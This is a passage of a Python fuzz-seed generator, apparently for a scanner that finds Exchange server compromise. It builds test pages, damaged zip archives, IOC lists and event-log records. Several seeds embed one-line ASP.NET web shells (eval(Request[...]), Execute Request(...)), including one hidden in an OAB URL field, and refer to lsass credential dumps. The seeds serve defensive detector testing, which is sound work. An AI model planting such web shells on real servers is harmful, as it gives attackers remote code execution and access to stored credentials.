    # unterminated constructs, each cut at the end of the file
    s["unterminated-region"] = bytes([CS]) + b"<% string x = \"abc"
    s["unterminated-verbatim"] = bytes([CS]) + b"<% var v = @\"C:\\x\r\nnext line \"\" more"
    s["unterminated-comment"] = bytes([CS]) + b"<% /* never closed %> <% eval(Request[\"a\"]) %>"
    s["unterminated-server-comment"] = bytes([CS]) + b"<%-- never closed <% eval(1) %>"
    s["unterminated-directive"] = bytes([CS]) + b"<%@ Page Language=\"VB"
    s["unterminated-script-tag"] = bytes([JS]) + b"<script runat='server' language=vb"
    s["unterminated-script-body"] = bytes([JS]) + b"<script runat=\"server\">eval(Request.Form('x'))"
    s["unterminated-escape"] = bytes([CS]) + b"<% x = \"\\"
    s["unterminated-hex-escape"] = bytes([JS]) + b"<% x = '\\x4"
    s["unterminated-unicode-escape"] = bytes([JS]) + b"<% x = '\\u00"
    s["unterminated-vb-string"] = bytes([VB]) + b"<% x = \"a\"\"\nb\" %>"
    s["script-tag-too-long"] = bytes([CS]) + b"<script runat=server " + b"a" * 2100 + b">eval(x)</script>"
    s["script-tags-odd"] = bytes([CS]) + (
        b"<scripts runat=server>no</scripts><script>client</script><SCRIPT RUNAT = \"Server\" "
        b"LANGUAGE = 'VB'>Execute Request(\"x\")</SCRIPT><script runat=server language=c#>"
        b"x();</script><script runat=serverx>y()</script><script runat=\"server\" language>")
    s["directives"] = bytes([VB]) + (
        b"<%@ Page Language=\"C#\" %><%@ Control Language='VB' %><%@ Master Language=cs %>"
        b"<%@ Application Language=\"JScript\" %><%@ WebService Language=\"javascript\" Class=x %>"
        b"<%@ Import Namespace=\"System.IO\" %><%@language%><%@ Page language = vb %>"
        b"<%@ Page xlanguage=\"vb\" %><%@Page%><% x = 1 %>")
    s["source-leading-directive"] = bytes([CS]) + b"\r\n  \t<%@ WebService Language=\"VB\" Class=\"S\" %>\nPublic x"
    s["region-prefixes"] = bytes([CS]) + b"<%=a%><%:b%><%#c%><%$d%><%%><%=%><%"
    s["punct-and-braces"] = bytes([CS]) + b"<% {{{;;;}}};;{}{ a==b != c >= d => e <<= 1 ?? f?.g ^ ~h @ @1 @\"\" %>"
    s["vb-colons-and-lines"] = bytes([VB]) + b"<%\n\n::a:b\n\r\nrem\nREM x\nremx = 1 : rem y\n'c\n%>"
    s["vb-escaped-names"] = bytes([VB]) + (
        b"<% Dim [Assembly] = [System].[Reflection].[Assembly].Load(x)\n[Rem] = 1 : [] = [1x] : "
        b"[_a$\xc3\xa9] [a b] [abc %><% [tail")
    s["identifiers-unicode"] = bytes([CS]) + "<% var \u00fcber = \u4e2d\u6587; $jq._x1 = 9abc; _0xdeadbeef(); %>".encode()
    s["numbers"] = bytes([JS]) + b"<% 0 1 0x1F 1.2.3 1e10 9_000 0b1010 12L 3.14f .5 %>"
    s["comments-everywhere"] = bytes([CS]) + (
        b"<% a // c %> b\n%><% /* c */ d /**/ e /*/ f */ g // end"
        b"\n'vb comment' h %><%-- c --%><%--%><%---->")
    s["bytes-high"] = bytes([CS]) + b"<% \x80\xff\xfe\xc3\xa9 x\x00y \x7f \x01 %>"
    s["lt-only"] = bytes([CS]) + b"<" * 64
    # '{' is a statement end, itself and another end: two tokens a byte, so
    # this page passes EXH_CODE_MAX_TOKENS (1 << 20) and is truncated, with a
    # string literal just past the cap
    s["token-cap.aspx"] = bytes([CS]) + b"<%" + b"{" * (1 << 19) + b"\"past the cap\" x %><% y %>"
    s["empty-page"] = bytes([VB])
    s["one-byte"] = bytes([JS]) + b"<"
    s["oab-dump.aspx"] = bytes([CS]) + (
        "Name                            : OAB (Default Web Site)\r\n"
        "PollInterval                    : 480\r\n"
        "OfflineAddressBooks             : \\Default Offline Address Book\r\n"
        "RequireSSL                      : True\r\n"
        "InternalUrl                     : https://mail.example.test/OAB\r\n"
        "ExternalUrl                     : http://f/<script language=\"JScript\" runat=\"server\">"
        "function Page_Load(){eval(Request[\"p\"],\"unsafe\");}</script>\r\n").encode()
    return s


# ------------------------------------------------------------------ zip --
# Archives built with zipfile (stored, fixed dates: deterministic), then
# damaged by hand.


def make_zip(members, comment=b"", member_comment=b"", extra=b""):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in members:
            zi = zipfile.ZipInfo(name, date_time=(2021, 3, 3, 2, 11, 4))
            zi.compress_type = zipfile.ZIP_STORED
            zi.create_system = 0
            zi.external_attr = 0
            if member_comment:
                zi.comment = member_comment
            if extra:
                zi.extra = extra
            z.writestr(zi, data)
        z.comment = comment
    return buf.getvalue()


def eocd_at(z):
    return z.rfind(b"PK\x05\x06")


def patch(z, off, fmt, *vals):
    v = bytearray(z)
    struct.pack_into(fmt, v, off, *vals)
    return bytes(v)


DUMP_MEMBERS = [("lsass.dmp", b"MDMP" + b"\0" * 28), ("readme.txt", b"hello\n"),
                ("dir/", b""), ("dir/sub/lsass.zip", b"PK\x05\x06" + b"\0" * 18)]


def zip_seeds():
    s = {}
    good = make_zip(DUMP_MEMBERS)
    e = eocd_at(good)
    cd_off = struct.unpack_from("<I", good, e + 16)[0]
    s["valid-lsass.zip"] = good
    s["valid-one.zip"] = make_zip([("x.aspx", b"<% eval(1) %>")])
    s["valid-empty.zip"] = make_zip([])
    s["valid-comment.zip"] = make_zip(DUMP_MEMBERS[:2], comment=b"PK\x05\x06 a fake end record in the comment")
    s["valid-member-comments-extra.zip"] = make_zip(
        DUMP_MEMBERS, member_comment=b"member comment", extra=b"\x55\x54\x05\x00\x01\x00\x00\x00\x00")
    s["valid-utf8-names.zip"] = make_zip([("\u00fcber/\u4e2d\u6587.txt", b"x"),
                                          ("C:\\Windows\\Temp\\l\u0073ass.DMP", b"y")])
    s["valid-long-name.zip"] = make_zip([("d/" * 200 + "lsass.dmp", b"")])
    s["valid-many.zip"] = make_zip([("m%03d.bin" % i, b"") for i in range(120)])
    s["sfx-prefix.zip"] = b"MZ" + b"\0" * 200 + good  # offsets relative to the archive, not the file
    s["two-archives.zip"] = good + make_zip([("second.txt", b"2")])
    s["truncated-in-cd.zip"] = good[:cd_off + 30]
    s["truncated-before-eocd.zip"] = good[:e + 10]
    s["eocd-only.zip"] = b"PK\x05\x06" + b"\0" * 18
    s["eocd-only-short.zip"] = b"PK\x05\x06" + b"\0" * 17
    s["count-too-big.zip"] = patch(good, e + 10, "<H", 0xFFFF)
    s["count-zero.zip"] = patch(good, e + 10, "<H", 0)
    s["cd-size-past-end.zip"] = patch(good, e + 12, "<I", 0xFFFFFFF0)
    s["cd-off-past-end.zip"] = patch(good, e + 16, "<I", len(good) + 1)
    s["cd-off-in-eocd.zip"] = patch(patch(good, e + 16, "<I", e), e + 12, "<I", 22)
    s["cd-off-zero.zip"] = patch(good, e + 16, "<I", 0)
    s["zip64-markers.zip"] = patch(patch(patch(good, e + 10, "<H", 0xFFFF), e + 12, "<I", 0xFFFFFFFF),
                                   e + 16, "<I", 0xFFFFFFFF)
    s["name-len-past-cd.zip"] = patch(good, cd_off + 28, "<H", 0xFFFF)
    s["extra-len-huge.zip"] = patch(good, cd_off + 30, "<H", 0xFFFF)
    s["comment-len-huge.zip"] = patch(good, cd_off + 32, "<H", 0xFFF0)
    s["bad-cd-signature.zip"] = patch(good, cd_off, "<I", 0x02014b51)
    second = cd_off + 46 + len(DUMP_MEMBERS[0][0])
    s["bad-second-signature.zip"] = patch(good, second, "<I", 0x04034b50)
    s["eocd-comment-len-wrong.zip"] = patch(good, e + 20, "<H", 0x1234)
    s["zero-name-len.zip"] = patch(good, cd_off + 28, "<H", 0)
    # a central directory whose headers point back into each other
    v = bytearray(make_zip([("a", b""), ("b", b"")]))
    ve = eocd_at(bytes(v))
    struct.pack_into("<H", v, ve + 10, 50)
    s["count-more-than-headers.zip"] = bytes(v)
    s["not-a-zip.txt"] = b"just some text, no PK here\n" * 3
    s["pk-noise.bin"] = (b"PK\x01\x02" + b"PK\x05\x06") * 12
    s["tiny"] = b"PK"
    s["empty"] = b""
    return s


# ------------------------------------------------------------------ ioc --
# Byte 0: bit 0 load twice, bits 1-2 the self-made list's format (plain,
# MSTIC, Volexity, HvS), bit 3 a BOM on it, bits 5-7 all set the built-in
# lists. Every indicator below is made up (documentation ranges,
# example.test names, well-known hashes of nothing).

IO_TWICE, IO_BOM, IO_BUILTIN = 0x01, 0x08, 0xE0
IO_PLAIN, IO_MSTIC, IO_VOLEXITY, IO_HVS = 0x00, 0x02, 0x04, 0x06

H_MD5 = "0123456789abcdef0123456789ABCDEF"
H_SHA1 = "a94a8fe5ccb19ba61c4c0873d391e987982fbbd3"
H_SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"


def ioc_seeds():
    s = {}
    plain = "\n".join([
        "# hashes, one per line, with and without notes",
        H_MD5, H_SHA1.upper(), H_SHA256,
        H_SHA1 + ";web shell dropped in aspnet_client",
        H_SHA256 + ",comma note, with more commas",
        H_MD5 + " space note", H_MD5 + "\tTAB note", H_SHA1 + ";",
        "  " + H_SHA256 + "  ;  padded note  ",
        H_SHA256[:63], H_SHA256 + "0", "g" * 32, H_SHA1 + "x;note",
        "", "   ", "\t", "#", "# 203.0.113.7",
    ]) + "\n"
    s["plain-hashes"] = bytes([IO_PLAIN]) + plain.encode()
    s["plain-hashes-builtin-twice"] = bytes([IO_BUILTIN | IO_TWICE | IO_HVS]) + plain.encode()
    ips = "\r\n".join(["203.0.113.7", "198.51.100.9", " 192.0.2.1 ", "0.0.0.0", "255.255.255.255",
                       "256.1.1.1", "1.2.3", "1.2.3.4.5", "01.2.3.4", "1..2.3", "1.2.3.4 note",
                       "1.2.3.4;x", ".1.2.3", "1.2.3.", "1234.1.1.1"]) + "\r\n"
    s["ips-crlf"] = bytes([IO_MSTIC]) + ips.encode()
    paths = "\n".join([
        "C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx",
        "c:/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/x.aspx",
        "\\\\server\\share\\inetpub\\wwwroot\\aspnet_client\\system_web\\y.aspx",
        "%ProgramData%\\COM\\tool.exe", "%Public%", "%", "\\", "C:\\", "C:", "D:\\Users\\Public\\z.ps1",
        "\\ClientAccess\\ecp\\auth\\errorEE.aspx", "C:\\root\\windows\\users\\inetpub\\deep.aspx",
        "C:\\PerfLogs\\a b\\c.bat", "C:\\x;y,z\\w.aspx",
    ]) + "\n"
    s["windows-paths"] = bytes([IO_VOLEXITY]) + paths.encode()
    uas = "\n".join([
        "Mozilla/5.0 (compatible; ExampleBot/1.0; +http://bot.example.test/)",
        "python-requests/2.25.1", "curl/7.68.0", "abc", "abcd", "Microsoft WinRM Client",
        "ua\x01with control", "ExchangeServicesClient/0.0.0.0", "a+b c+d",
    ]) + "\n"
    s["user-agents"] = bytes([IO_HVS | IO_BOM]) + uas.encode()
    mstic = "\r\n".join([
        "DateAdded,FirstSeen,Indicator,IndicatorType,TLP",
        "2021-03-02,2021-03-02," + H_SHA256 + ",sha256,TLP:WHITE",
        "2021-03-02,2021-03-02," + H_SHA1 + ",sha1,TLP:WHITE",
        "2021-03-02,2021-03-02," + H_MD5 + ",md5,TLP:WHITE",
        "2021-03-02,2021-03-02," + H_MD5 + ",sha256,TLP:WHITE",
        "2021-03-02,2021-03-02,not-hex,sha256,TLP:WHITE",
        "2021-03-02,2021-03-02,C:\\inetpub\\wwwroot\\aspnet_client\\m.aspx,FilePath,TLP:WHITE",
        "2021-03-02,2021-03-02,/inetpub/x.aspx,fullpath,TLP:WHITE",
        "2021-03-02,2021-03-02,,FilePath,TLP:WHITE",
        "2021-03-02,2021-03-02,203.0.113.8,IPAddress,TLP:WHITE",
        "2021-03-02,2021-03-02,203.0.113,IPAddress,TLP:WHITE",
        "2021-03-02,2021-03-02,evil.example.test,Domain,TLP:WHITE",
        "2021-03-02,2021-03-02,\"Mozilla/5.0 (quoted, comma)\",UserAgent,TLP:WHITE",
        "2021-03-02,2021-03-02,x,,TLP:WHITE",
        "2021-03-02,2021-03-02",
        "only one field",
        "DateAdded,FirstSeen,Indicator,IndicatorType,TLP",
    ]) + "\r\n"
    s["mstic-csv"] = bytes([IO_PLAIN]) + mstic.encode()
    s["mstic-csv-builtin"] = bytes([IO_BUILTIN | IO_MSTIC | IO_BOM]) + BOM + mstic.encode()
    volexity = "\n".join([
        "value,type,notes",
        "203.0.113.9,ipaddress,scanning host",
        "203.0.113.10,ipv4,",
        "203.0.113.11,ip",
        H_SHA256.upper() + ",sha256,\"a note, quoted\"",
        "C:\\inetpub\\wwwroot\\aspnet_client\\v.aspx,filepath,planted",
        "ExampleAgent/2.0 (like Gecko),useragent,odd agent",
        "bad.example.test,hostname,not used",
        "\"unterminated,type,notes",
        "\"\"\"\",\"\"type\"\",\"x\"\"y\"",
        ",,,,,,,,,,,,,",
    ]) + "\n"
    s["volexity-csv"] = bytes([IO_VOLEXITY]) + volexity.encode()
    hvs = "\n".join([
        "Type, Data, Note",
        "SHA256, " + H_SHA256 + ", ProxyShell web shell",
        "MD5 , " + H_MD5 + " , \"note, with comma\"",
        "FilePath, C:\\inetpub\\wwwroot\\aspnet_client\\570221043.aspx, HvS",
        "IPv4, 192.0.2.44, scanner",
        "User-Agent, Mozilla/5.0 zgrab/0.x, scanner",
        "Domain, x.example.test, c2",
        "Filename, shell.aspx, name only",
        "\"SHA1\",\"" + H_SHA1 + "\",\"quoted fields\"",
        "SHA1",
    ]) + "\n"
    s["hvs-csv"] = bytes([IO_HVS | IO_TWICE]) + hvs.encode()
    # a CSV header after plain lines, and plain lines after it
    s["mixed-formats"] = bytes([IO_TWICE]) + (plain + volexity + ips).encode()
    junk = (b"\x00\x01\x02 binary\n" + b"line with a NUL \x00 inside\n" + b"x" * 5000 + b"\n" +
            b"cr\ronly\rlines\r" + b"\n\xff\xfe\xc3\x28 invalid utf-8\n" + b"\x1b[31mred\x1b[0m\n" +
            b"  " + H_SHA1.encode() + b"\x00\n" + b"\t\t\n" + b"#" + b"," * 10 + b"\n")
    s["junk-lines"] = bytes([IO_MSTIC | IO_TWICE]) + junk
    s["utf16-list"] = bytes([IO_VOLEXITY]) + utf16le("203.0.113.7\r\n" + H_MD5 + "\r\n")
    s["no-final-eol"] = bytes([IO_HVS]) + H_SHA256.encode()
    s["lone-header"] = bytes([IO_BUILTIN]) + b"value,type"
    s["empty"] = bytes([IO_PLAIN])
    s["empty-builtin-bom"] = bytes([IO_BUILTIN | IO_BOM | IO_MSTIC])
    return s


# ----------------------------------------------------------------- scan --

SC_HTTPPROXY, SC_ECP, SC_OAB, SC_RPS, SC_W3C, SC_ZIP, SC_DMP, SC_BIN = range(8)
(SC_ASPNET_CLIENT, SC_OWA_AUTH, SC_ASP, SC_APP_WEB, SC_APPHOST, SC_ECP_AUTH, SC_PAGE_NAMED,
 SC_PUBLISHED) = range(8, 16)
SC_SINCE, SC_UNTIL, SC_HOST, SC_COLOR = 0x10, 0x20, 0x40, 0x80


def scan_seeds():
    s = {}
    hp = BOM + crlf(hp_prologue() + hp_rows_benign() + hp_rows_attack())
    s["0-httpproxy-attack"] = bytes([SC_HTTPPROXY]) + hp
    s["0-httpproxy-since-until-host-color"] = bytes([SC_HTTPPROXY | SC_SINCE | SC_UNTIL | SC_HOST | SC_COLOR]) + hp
    s["0-httpproxy-2013-build"] = bytes([SC_HTTPPROXY]) + crlf(
        hp_prologue(version="15.00.1497.002") + hp_rows_benign())
    s["0-httpproxy-binary"] = bytes([SC_HTTPPROXY]) + b"\0\1\2binary log\0"
    s["0-httpproxy-fields-change"] = bytes([SC_HTTPPROXY]) + exlog_seeds()["httpproxy-fields-change.log"]
    s["1-ecp"] = bytes([SC_ECP]) + BOM + crlf(ecp_lines())
    s["1-ecp-since"] = bytes([SC_ECP | SC_SINCE]) + BOM + crlf(ecp_lines())
    s["2-oab"] = bytes([SC_OAB]) + BOM + crlf(oab_lines())
    s["2-oab-until-color"] = bytes([SC_OAB | SC_UNTIL | SC_COLOR]) + BOM + crlf(oab_lines())
    s["3-rps"] = bytes([SC_RPS]) + BOM + crlf(rps_lines())
    s["4-w3c"] = bytes([SC_W3C]) + crlf(W3C_LINES)
    s["4-w3c-host"] = bytes([SC_W3C | SC_HOST]) + crlf(W3C_LINES)
    zip_bytes = (b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\0" * 16 + b"\x08\x00\x00\x00lsass.dmp"
                 + b"\x03\x00" + b"PK\x05\x06" + b"\0" * 18)
    s["5-programdata-zip"] = bytes([SC_ZIP]) + zip_bytes
    s["5-programdata-7z"] = bytes([SC_ZIP]) + b"7z\xbc\xaf\x27\x1c" + b"\0" * 26
    s["5-programdata-text"] = bytes([SC_ZIP]) + b"not an archive\n"
    s["6-lsass-dump"] = bytes([SC_DMP]) + minidump([LSASS, "C:\\Windows\\System32\\ntdll.dll"])
    s["6-lsass-name-only"] = bytes([SC_DMP]) + b"just text"
    s["6-lsass-dump-since"] = bytes([SC_DMP | SC_SINCE]) + minidump([LSASS], stamp=1)
    s["7-bin-renamed-dump"] = bytes([SC_BIN]) + minidump(["c:\\windows\\system32\\LSASS.exe"])
    s["7-bin-ecp-content"] = bytes([SC_BIN]) + crlf(ecp_lines())
    s["7-bin-w3c-content"] = bytes([SC_BIN]) + lf(W3C_LINES)
    s["7-bin-rps-content"] = bytes([SC_BIN | SC_COLOR]) + lf(rps_lines())
    s["1-ecp-path-httpproxy-content"] = bytes([SC_ECP]) + lf(hp_prologue(plain=False) + hp_rows_attack())
    # terminal escapes, C1/bidi controls and invalid UTF-8 in logged values
    s["3-rps-hostile-text"] = bytes([SC_RPS]) + lf(["#Fields: " + RPS_FIELDS]) + (
        b"2021-03-03T02:24:33Z,,r,15,2,792,3,h\x1b[31m,/powershell,,,\x1b]0;pwn\x07,"
        b"104.140.114.110,EX\xff\xfe\xc0\x80,200,c,New-MailboxExportRequest,\xe2\x80\xae\xc2\x9b,"
        b"?q=\x7f\r\n")
    s["empty-file"] = bytes([SC_HTTPPROXY])
    # web pages and drops (paths 8-15)
    s["8-aspnet-client-cs-shell"] = bytes([SC_ASPNET_CLIENT]) + PAGE_CS.encode()
    s["8-aspnet-client-js-eval-utf16"] = bytes([SC_ASPNET_CLIENT | SC_COLOR]) + utf16le(PAGE_JS)
    s["8-aspnet-client-oab-dump"] = bytes([SC_ASPNET_CLIENT]) + code_seeds()["oab-dump.aspx"][1:]
    s["8-aspnet-client-pst-drop"] = bytes([SC_ASPNET_CLIENT]) + code_seeds()["pst-drop-utf16-even"][1:]
    s["8-aspnet-client-der-drop"] = bytes([SC_ASPNET_CLIENT | SC_SINCE]) + code_seeds()["der-drop-utf16-odd"][1:]
    s["8-aspnet-client-benign-upload"] = bytes([SC_ASPNET_CLIENT]) + (
        b"<%@ Page Language=\"C#\" %><% var f = Request.Files[0];"
        b" f.SaveAs(Server.MapPath(\"~/up/\") + Path.GetFileName(f.FileName)); %>")
    s["9-owa-auth-handler"] = bytes([SC_OWA_AUTH]) + SOURCE_ASHX.encode()
    s["10-classic-asp-vb"] = bytes([SC_ASP]) + PAGE_VB.encode()
    s["10-classic-asp-encoded"] = bytes([SC_ASP | SC_HOST]) + b"<%@ Language=VBScript.Encode %><%#@~^CAAAAA==x^#~@%>"
    s["11-app-web-compiled"] = bytes([SC_APP_WEB]) + b"MZ\x90\x00" + b"\0" * 60 + b"JScriptEvaluate\0" + \
        utf16le("/aspnet_client/", bom=False) + b"get_Request\0get_Item\0"
    s["11-app-web-compiled-place"] = bytes([SC_APP_WEB]) + b"MZ" + utf16le("http://f/", bom=False) + \
        b"get_Request\0get_Files\0"
    s["12-applicationhost-config"] = bytes([SC_APPHOST]) + (
        b"<configuration><system.applicationHost><sites><site name=\"Default Web Site\">"
        b"<application path=\"/\"><virtualDirectory path=\"/\" physicalPath=\"%SystemDrive%\\inetpub\\wwwroot\" />"
        b"</application><application path=\"/x\"><virtualDirectory path=\"/\" "
        b"physicalPath = 'C:\\ProgramData\\COM\\' /></application>"
        b"<virtualDirectory physicalPath=\"%Public%\\x\"/><virtualDirectory physicalPath=unquoted />"
        b"<virtualDirectory physicalPath=\"C:\\Users\\Public\\unterminated")
    s["13-ecp-auth-vb-source"] = bytes([SC_ECP_AUTH]) + SOURCE_VB.encode()
    s["14-page-named-pst"] = bytes([SC_PAGE_NAMED]) + code_seeds()["pst-drop-utf16-even"][1:]
    s["14-page-named-text"] = bytes([SC_PAGE_NAMED]) + PAGE_CS.encode()
    for name, (lang, page) in TECHNIQUE_PAGES.items():
        slot = {".asp": SC_ASP, ".ashx": SC_OWA_AUTH}.get(os.path.splitext(name)[1], SC_ASPNET_CLIENT)
        s["%d-%s" % (slot, name.rsplit(".", 1)[0])] = bytes([slot]) + page.encode()
    s["8-aspnet-client-obfuscated-js"] = bytes([SC_ASPNET_CLIENT]) + OBFUSCATED_JS.encode()
    s["15-published-name"] = bytes([SC_PUBLISHED | SC_SINCE | SC_UNTIL]) + b"<% Response.Write(\"ok\") %>"
    return s


# ----------------------------------------------------------------- evtx --
# .evtx files written from scratch: a 4 KiB ElfFile header, then chunks (a
# 512-byte ElfChnk header, then records). Each record's binary XML is
# written token by token below (layouts: include/exh/evtx.h and
# src/read/evtx.c). Chunks end after their last record, as in a log that is
# still being written, to keep the seeds small; the few seeds that need a
# second chunk slot pad the first chunk to 64 KiB. Every name, host, SID and
# GUID is made up. Seeds named chunk-* are a bare chunk without the file
# header: the fuzz target's own 64 KiB chunk takes them as they are.

EV_CHUNK = 65536
FT_BASE = 132592104000000000  # FILETIME of 2021-03-03T02:00:00Z
GUID_A = bytes(range(0x10, 0x20))
GUID_B = bytes(range(0xA0, 0xB0))
EV_XMLNS = "http://schemas.microsoft.com/win/2004/08/events/event"


# The little-endian packers, UTF-16LE and the MS-EVEN6 name hash are the .evtx
# test generator's (tests/gen/make_evtx.py), shared rather than written twice.
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tests", "gen"))
from make_evtx import name_hash as ev_hash, u8, u16, u32, u64, utf16 as w16  # noqa: E402


def sid(rev, auth, *subs):
    return u8(rev) + u8(len(subs)) + auth.to_bytes(6, "big") + b"".join(u32(x) for x in subs)


SID_SYSTEM = sid(1, 5, 18)
SID_USER = sid(1, 5, 21, 1111111111, 2222222222, 3333333333, 1001)


class El:
    """An element: name, [(attribute name, value)], children. dep is the
    dependency id written after the token inside a template definition."""

    def __init__(self, name, attrs=(), children=(), dep=0xFFFF):
        self.name, self.attrs, self.children, self.dep = name, list(attrs), list(children), dep


class Sub:
    """A substitution (0x0d, or 0x0e when optional) of value index with type."""

    def __init__(self, index, vtype, optional=False):
        self.index, self.vtype, self.optional = index, vtype, optional


class Tok:
    """Other tokens: ('charref', n), ('entity', name), ('cdata', text),
    ('pi', target, data), ('raw', bytes)."""

    def __init__(self, *what):
        self.what = what


class Tmpl:
    """A template instance: the definition (an El with substitutions) is
    written inline the first time tid is seen in the chunk, referred to by
    offset later. values: [(type, bytes or a function of an Emitter)]."""

    def __init__(self, tid, definition, values, count=None, def_offset=None):
        self.tid, self.definition, self.values = tid, definition, values
        self.count, self.def_offset = count, def_offset


class Emitter:
    """Binary XML written at chunk offset base; names and template
    definitions already in the chunk are referred to by offset."""

    def __init__(self, base, chunk_state):
        self.base, self.buf, self.st = base, bytearray(), chunk_state

    @property
    def pos(self):
        return self.base + len(self.buf)

    def name(self, s):
        names = self.st["names"]
        if s in names:
            self.buf += u32(names[s])
            return
        at = self.pos + 4
        names[s] = at
        self.buf += u32(at) + u32(0) + u16(ev_hash(s)) + u16(len(s)) + w16(s) + u16(0)

    def fragment(self, body, dep=False, eof=True):
        self.buf += b"\x0f\x01\x01\x00"
        self.node(body, dep)
        if eof:
            self.buf += b"\x00"

    def element(self, el, dep):
        self.buf += u8(0x41 if el.attrs else 0x01)
        if dep:
            self.buf += u16(el.dep)
        size_at = len(self.buf)
        self.buf += u32(0)
        self.name(el.name)
        if el.attrs:
            list_at = len(self.buf)
            self.buf += u32(0)
            for i, (an, av) in enumerate(el.attrs):
                self.buf += u8(0x46 if i + 1 < len(el.attrs) else 0x06)
                self.name(an)
                self.node(av, dep)
            struct.pack_into("<I", self.buf, list_at, len(self.buf) - list_at - 4)
        if el.children:
            self.buf += b"\x02"
            for c in el.children:
                self.node(c, dep)
            self.buf += b"\x04"
        else:
            self.buf += b"\x03"
        struct.pack_into("<I", self.buf, size_at, len(self.buf) - size_at - 4)

    def node(self, n, dep=False):
        if isinstance(n, str):
            self.buf += b"\x05\x01" + u16(len(w16(n)) // 2) + w16(n)
        elif isinstance(n, El):
            self.element(n, dep)
        elif isinstance(n, Sub):
            self.buf += u8(0x0e if n.optional else 0x0d) + u16(n.index) + u8(n.vtype)
        elif isinstance(n, Tmpl):
            self.template(n)
        elif isinstance(n, list):
            for c in n:
                self.node(c, dep)
        elif isinstance(n, Tok):
            kind = n.what[0]
            if kind == "charref":
                self.buf += b"\x08" + u16(n.what[1])
            elif kind == "entity":
                self.buf += b"\x09"
                self.name(n.what[1])
            elif kind == "cdata":
                self.buf += b"\x07" + u16(len(w16(n.what[1])) // 2) + w16(n.what[1])
            elif kind == "pi":
                self.buf += b"\x0a"
                self.name(n.what[1])
                self.buf += b"\x0b" + u16(len(w16(n.what[2])) // 2) + w16(n.what[2])
            elif kind == "raw":
                self.buf += n.what[1]
            else:
                raise ValueError(kind)
        else:
            raise TypeError(n)

    def template(self, t):
        self.buf += b"\x0c\x01" + u32(t.tid)
        defs = self.st["templates"]
        if t.def_offset is not None:
            self.buf += u32(t.def_offset)
        elif t.tid in defs:
            self.buf += u32(defs[t.tid])
        else:
            at = self.pos + 4
            defs[t.tid] = at
            self.buf += u32(at) + u32(0) + GUID_A + u32(0)
            size_at = len(self.buf) - 4
            start = len(self.buf)
            self.fragment(t.definition, dep=True)
            struct.pack_into("<I", self.buf, size_at, len(self.buf) - start)
        n = len(t.values)
        self.buf += u32(n if t.count is None else t.count)
        ve = Emitter(self.pos + 4 * n, self.st)
        descs = []
        for vtype, v in t.values:
            before = len(ve.buf)
            if callable(v):
                v(ve)
            else:
                ve.buf += v
            descs.append((len(ve.buf) - before, vtype))
        for size, vtype in descs:
            self.buf += u16(size) + u8(vtype) + b"\x00"
        self.buf += ve.buf


def nested(body):
    """A 0x21 value: a binary XML fragment written where the value lands."""
    return lambda e: e.fragment(body)


def ev_record(rid, ft, xml):
    size = 24 + len(xml) + 4
    return b"**\x00\x00" + u32(size) + u64(rid) + u64(ft) + xml + u32(size)


def ev_chunk(bodies, first_id=1, pad=False, flags=0, raw_tail=b""):
    """A chunk of records whose XML is bodies[i] (an Emitter -> None function,
    or a node), with correct sizes and CRCs."""
    st = {"names": {}, "templates": {}}
    data = bytearray()
    last = 512
    for i, body in enumerate(bodies):
        pos = 512 + len(data)
        e = Emitter(pos + 24, st)
        if callable(body):
            body(e)
        else:
            e.fragment(body)
        data += ev_record(first_id + i, FT_BASE + 10000000 * (61 * i + 7) + 1234567, bytes(e.buf))
        last = pos
    data += raw_tail
    free = 512 + len(data)
    h = bytearray(512)
    h[0:8] = b"ElfChnk\x00"
    struct.pack_into("<QQQQIII", h, 8, first_id, first_id + len(bodies) - 1, first_id,
                     first_id + len(bodies) - 1, 128, last, free)
    struct.pack_into("<I", h, 52, zlib.crc32(bytes(data)))
    for i, off in enumerate(sorted(st["templates"].values())[:32]):
        struct.pack_into("<I", h, 384 + 4 * i, off)
    struct.pack_into("<I", h, 120, flags)
    struct.pack_into("<I", h, 124, zlib.crc32(bytes(h[:120]) + bytes(h[128:512])))
    c = bytes(h) + bytes(data)
    if pad:
        c += bytes(EV_CHUNK - len(c))
    return c


def ev_file(chunks, flags=0, next_id=None):
    h = bytearray(4096)
    h[0:8] = b"ElfFile\x00"
    struct.pack_into("<QQQIHHHH", h, 8, 0, max(len(chunks) - 1, 0), next_id or 100, 128, 1, 3, 4096,
                     len(chunks))
    struct.pack_into("<I", h, 120, flags)
    struct.pack_into("<I", h, 124, zlib.crc32(bytes(h[:120])))
    return bytes(h) + b"".join(chunks)


def ev_patch(b, off, fmt, *vals):
    v = bytearray(b)
    struct.pack_into(fmt, v, off, *vals)
    return bytes(v)


def ev_rechunk_crc(c):
    """Recompute a chunk's CRCs after a patch (free offset as written)."""
    free = struct.unpack_from("<I", c, 48)[0]
    free = free if 512 <= free <= len(c) else len(c)
    c = ev_patch(c, 52, "<I", zlib.crc32(c[512:free]))
    return ev_patch(c, 124, "<I", zlib.crc32(c[:120] + c[128:512]))


def system(eid, level=4, channel="Security", computer="EXSRV01.example.test", rid=None,
           provider="Microsoft-Windows-Security-Auditing", when="2021-03-03T02:11:04.1234567Z",
           user=None):
    kids = [El("Provider", [("Name", provider), ("Guid", "{54849625-5478-4994-A5BA-3E3B0328C30D}")]),
            El("EventID", children=[str(eid)]), El("Version", children=["2"]),
            El("Level", children=[str(level)]), El("Task", children=["12544"]),
            El("Keywords", children=["0x8020000000000000"]),
            El("TimeCreated", [("SystemTime", when)])]
    if rid is not None:
        kids.append(El("EventRecordID", children=[str(rid)]))
    kids += [El("Correlation"), El("Execution", [("ProcessID", "612"), ("ThreadID", "1264")]),
             El("Channel", children=[channel]), El("Computer", children=[computer])]
    kids.append(El("Security", [("UserID", user)]) if user else El("Security"))
    return El("System", children=kids)


def event(*parts):
    return El("Event", [("xmlns", EV_XMLNS)], list(parts))


def data(name, *value):
    return El("Data", [("Name", name)] if name is not None else [], list(value))


def inline_logon():
    """An inline record (no template): a 4624 logon."""
    return event(system(4624, level=0, rid=41, user="S-1-5-18"),
                 El("EventData", children=[
                     data("SubjectUserSid", "S-1-5-18"), data("TargetUserName", "alice"),
                     data("TargetDomainName", "EXAMPLE"), data("LogonType", "3"),
